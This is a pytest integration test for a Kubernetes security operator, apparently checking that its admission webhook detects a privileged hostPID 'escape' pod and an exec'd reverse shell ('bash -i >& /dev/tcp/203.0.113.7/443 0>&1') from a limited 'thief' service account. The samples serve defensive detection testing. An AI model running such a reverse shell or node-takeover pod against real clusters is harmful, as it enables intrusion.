"""A real API server asks the admission webhook: what it tells is judged, and it never stops a request."""

from __future__ import annotations

import base64
from typing import Any

import pytest
import yaml

from riverwatch import errors
from riverwatch.kube import client as kube_client
from riverwatch.kube import connection, resources

WEBHOOKS = resources.Resource(
    "admissionregistration.k8s.io",
    "v1",
    "validatingwebhookconfigurations",
    "ValidatingWebhookConfiguration",
    namespaced=False,
)

BUDGET = {
    "apiVersion": resources.CLUSTER_POLICIES.api_version,
    "kind": resources.CLUSTER_POLICIES.kind,
    "metadata": {"name": "tests"},
    "spec": {"alertBudget": {"perDay": 10_000}},
}

RIGHTS = [{"apiGroups": [""], "resources": ["pods", "pods/exec"], "verbs": ["create", "get"]}]

TAKEOVER = {
    "apiVersion": "v1",
    "kind": "Pod",
    "metadata": {"name": "escape"},
    "spec": {
        "hostPID": True,
        "nodeName": "worker-1",
        "containers": [{"name": "sh", "image": "alpine", "securityContext": {"privileged": True}}],
    },
}


def thief_in(plane: Any, admin: kube_client.Client, namespace: str) -> kube_client.Client:
    """Make an account that may start pods and enter them, and return a client with its token."""
    admin.apply(resources.NAMESPACES, {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": namespace}})
    account = {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "thief", "namespace": namespace}}
    admin.apply(resources.SERVICE_ACCOUNTS, account)
    group = "rbac.authorization.k8s.io"
    role = {"apiVersion": f"{group}/v1", "kind": "ClusterRole", "metadata": {"name": namespace}, "rules": RIGHTS}
    admin.apply(resources.CLUSTER_ROLES, role)
    admin.apply(
        resources.CLUSTER_ROLE_BINDINGS,
        {
            "apiVersion": f"{group}/v1",
            "kind": "ClusterRoleBinding",
            "metadata": {"name": namespace},
            "roleRef": {"apiGroup": group, "kind": "ClusterRole", "name": namespace},
            "subjects": [{"kind": "ServiceAccount", "name": "thief", "namespace": namespace}],
        },
    )
    return kube_client.Client(connection.from_kubeconfig(plane.service_account_kubeconfig(namespace, "thief")))


def test_privileged_pod_and_exec_are_detected_without_an_audit_log(control_plane, operator_site):
    site, plane = operator_site, control_plane
    admin = site.install(plane)
    admin.apply(resources.CLUSTER_POLICIES, BUDGET)
    token_file = site.credentials / "admission-token"
    operator = site.start(plane, admission_webhook="true", admission_token_file=str(token_file))
    site.wait(operator.ready, "the operator")

    # The manifest as shipped, but that there is no Service network here.
    manifest = yaml.safe_load((site.credentials / "admission-webhook.yaml").read_text())
    [webhook] = manifest["webhooks"]
    path = webhook["clientConfig"].pop("service")["path"]
    webhook["clientConfig"]["url"] = f"https://127.0.0.1:{operator.audit_port}{path}"
    assert base64.b64decode(webhook["clientConfig"]["caBundle"]).startswith(b"-----BEGIN CERTIFICATE")
    admin.apply(WEBHOOKS, manifest)
    try:
        thief = thief_in(plane, admin, "admitted")
        taken = 'riverwatch_admission_reviews_total{result="taken"}'
        site.wait(
            lambda: admin.create(resources.SERVICE_ACCOUNTS, probe()) and operator.metric(taken), "the first review"
        )
        assert thief.create(resources.PODS, TAKEOVER | {"metadata": {"name": "escape", "namespace": "admitted"}})
        shell = "/api/v1/namespaces/admitted/pods/escape/exec"
        command = {"command": "bash -i >& /dev/tcp/203.0.113.7/443 0>&1", "container": "sh"}
        with pytest.raises((errors.ApiPermanentError, errors.ApiTemporaryError)):
            thief.call("POST", shell, query=command)  # no upgrade: the connection fails, after it was reviewed

        def detectors() -> set[str]:
            found = admin.list(resources.THREAT_DETECTIONS, namespace="admitted")
            return {
                name for one in found if one["spec"]["actor"]["name"] == "thief" for name in one["spec"]["detectors"]
            }

        site.wait(lambda: {"node-takeover-workload", "exec-reverse-shell"} <= detectors(), "both detections")

        assert operator.stop() == 0
        # Away: nothing is stopped.
        late = TAKEOVER | {"metadata": {"name": "late", "namespace": "admitted"}}
        assert thief.create(resources.PODS, late)
    finally:
        admin.delete(WEBHOOKS, name="riverwatch")
    assert "riverwatch-system" not in {
        one["spec"]["actor"].get("namespace") for one in admin.list(resources.THREAT_DETECTIONS)
    }


_PROBES = iter(range(1_000))


def probe() -> dict[str, Any]:
    """Return a new harmless object; webhook configurations take a moment to be in force."""
    metadata = {"name": f"probe-{next(_PROBES)}", "namespace": "admitted"}
    return {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": metadata}
